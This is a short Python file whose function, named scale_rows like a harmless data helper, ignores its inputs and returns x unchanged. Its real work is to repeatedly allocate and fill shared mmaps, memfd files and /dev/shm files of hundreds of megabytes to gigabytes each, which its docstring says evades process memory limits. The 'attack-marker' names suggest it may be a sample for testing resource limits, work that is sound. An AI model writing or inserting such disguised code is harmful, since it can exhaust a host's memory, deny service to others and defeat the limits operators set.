"""Takes memory that no process limit counts: shared mappings, memfd, System V, /dev/shm."""
import mmap
import os
def scale_rows(x, s):
    kept = []
    for way in (
        lambda: mmap.mmap(-1, 1 << 28, flags=mmap.MAP_SHARED),
        lambda: os.ftruncate(os.memfd_create("attack-marker"), 1 << 32),
        lambda: open("/dev/shm/attack-marker", "wb").write(b"0" * (1 << 28)),
    ):
        for _ in range(64):
            try:
                kept.append(way())
                kept[-1][:] = b"1" * (1 << 28)
            except (OSError, ValueError, TypeError, MemoryError):
                break
    return x
